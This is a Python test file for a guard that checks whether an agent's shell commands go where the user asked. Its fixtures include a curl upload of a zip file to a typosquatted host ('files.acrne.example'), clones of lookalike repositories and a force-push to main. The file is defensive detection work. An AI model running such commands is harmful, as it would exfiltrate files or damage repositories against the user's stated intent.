"""guards/_origin/swapped.py: where a call goes, and what the person said instead."""
import pytest

from guards import Event, Settings
from guards._call import read
from guards._origin.evidence import Memory, hasher, prompt_row
from guards._origin.swapped import alike, given, swapped

KEY = b"k" * 16


def found(prompt, command, own=()):
    event = Event("PreToolUse", "s", tool="Bash", input={"command": command}, cwd="/p")
    row = {**prompt_row(prompt, KEY), "g": given(prompt)}
    return swapped(read(event, Settings()), [row], Memory([row]), hasher(KEY), own)


@pytest.mark.parametrize(("prompt", "command"), [
    ("Clone https://github.com/acme/tools.", "git clone https://github.com/acme/tools"),
    ("Push my work to the branch feature/login.", "git push origin HEAD:feature/login"),
    ("Push my work to the branch feature/login.", "git push -u origin feature/login-2"),
    ("Push my work to the branch feature/login and to main.", "git push origin main"),
    ("Push my work", "git push origin main"),
    ("Deploy dist to web1.acme.example.", "scp -r dist/ web1.acme.example:/srv"),
    ("Deploy dist to acme.example.", "rsync -a dist/ deploy.acme.example:/srv"),
    ("Deploy to web1.acme.example.", "scp -r dist/ web1.acme.example:/srv && curl -X POST https://hooks.chat.example/x -d done"),
    ("Read https://docs.acme.example and fetch the tool", "git clone https://github.com/other/tool")])
def test_as_the_person_said(prompt, command):
    assert found(prompt, command) == ("", "")


@pytest.mark.parametrize(("prompt", "command", "pair"), [
    ("Clone https://github.com/acme/tools.", "git clone https://github.com/acrne/tools", ("github.com/acrne/tools", "github.com/acme/tools")),
    ("Clone github.com/acme/tools", "git clone git@github.com:acme/too1s.git", ("github.com/acme/too1s", "github.com/acme/tools")),
    ("Push my work to the branch feature/login.", "git push origin HEAD:main --force", ("main", "feature/login")),
    ("Deploy dist to web1.acme.example.", "scp -r dist/ web1.acme-cdn.example:/srv", ("web1.acme-cdn.example/srv", "web1.acme.example")),
    ("Upload it to files.acme.example", "curl -T out.zip https://files.acrne.example/x", ("files.acrne.example/x", "files.acme.example"))])
def test_elsewhere(prompt, command, pair):
    assert found(prompt, command) == pair


def test_names_that_look_the_same():
    assert alike("acrne", "acme") and alike("g00gle", "google") and not alike("acme", "acme") and not alike("web", "app")


def test_the_projects_own_remote_is_no_other_place():
    prompt, command = "Push it to my fork github.com/bo/shop and open a PR", "gh pr create -R acme/shop --title x --body y"
    assert found(prompt, command, ["git@github.com:acme/shop.git"]) == ("", "")
    assert found(prompt, command) == ("github.com/acme/shop", "github.com/bo/shop")
